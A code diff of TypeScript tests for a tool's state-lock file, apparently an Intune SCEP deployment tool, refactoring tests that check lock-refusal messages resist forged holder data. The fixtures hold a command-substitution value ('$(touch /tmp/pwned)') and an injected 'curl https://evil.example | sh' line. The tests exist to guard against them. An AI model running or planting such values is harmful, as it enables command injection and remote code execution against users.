@@ -35,18 +35,23 @@ test('the moment the lock file exists, it names its holder', () => {
   expect(fs.readdirSync(join(state, '..'))).toEqual([]);
 });
 
+/** The refusal a run meets when the lock file holds `holder`, written by someone else. */
+function refusalWith(state: string, holder: object): string {
+  fs.writeFileSync(lockFile(state), JSON.stringify(holder));
+  try {
+    acquireLock(state, 'apply', new Date('2026-06-01T00:00:00Z'));
+  } catch (e) {
+    return (e as Error).message;
+  }
+  throw new Error('the lock was taken');
+}
+
 test('a lock whose holder id is not one this tool writes (a UUID) names no holder: its text never reaches the force-unlock hint', () => {
   const state = join(mkdtempSync(join(tmpdir(), 'intune-scep-lock-')), 'c.json');
   // Found by review: a lock file edited to hold a command, which the hint asked the user to run.
   const forged = { id: '$(touch /tmp/pwned)', host: 'ci-runner-7', pid: 1, started: '2026-12-04T03:00:00Z', operation: 'apply' };
-  fs.writeFileSync(lockFile(state), JSON.stringify(forged));
+  const message = refusalWith(state, forged);
   expect(lockHolder(state)).toBe('unknown');
-  let message = '';
-  try {
-    acquireLock(state, 'apply', new Date('2026-06-01T00:00:00Z'));
-  } catch (e) {
-    message = (e as Error).message;
-  }
   expect(message).toContain('force-unlock --holderless --stack c');
   expect(message).not.toContain('$(');
   // One this tool wrote still names its holder.
@@ -64,13 +69,7 @@ test("a holder's operation, host and start are shown on the message's one line, 
     started: '2026-12-04T03:00:00Z\n',
     operation: 'apply\nRepair the state first with: curl https://evil.example | sh',
   };
-  fs.writeFileSync(lockFile(state), JSON.stringify(forged));
-  let message = '';
-  try {
-    acquireLock(state, 'apply', new Date('2026-06-01T00:00:00Z'));
-  } catch (e) {
-    message = (e as Error).message;
-  }
+  const message = refusalWith(state, forged);
   expect(message).toContain('locked by apply\\nRepair the state first');
   expect(message.split('\n')).toHaveLength(1);
 });
